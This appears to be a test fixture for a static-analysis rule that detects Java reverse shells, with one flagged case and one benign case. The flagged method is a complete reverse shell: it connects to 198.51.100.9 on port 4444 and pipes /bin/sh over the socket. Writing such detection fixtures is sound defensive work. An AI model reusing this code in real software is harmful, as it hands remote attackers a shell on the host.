// Fixture for java-reverse-shell.
// RULEID: socket + /bin/sh process in one method.
// OK: socket used for a metrics client with a git process; a shell started without a socket.
import java.net.Socket;

class Updater {
    void connect() throws Exception {
        Socket s = new Socket("198.51.100.9", 4444);
        // ruleid: java-reverse-shell
        Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
        pump(p.getInputStream(), s.getOutputStream());
        pump(s.getInputStream(), p.getOutputStream());
    }

    void metrics() throws Exception {
        Socket s = new Socket("metrics.internal", 2003);
        // ok: java-reverse-shell
        Process p = new ProcessBuilder("git", "rev-parse", "HEAD").start();
    }
}
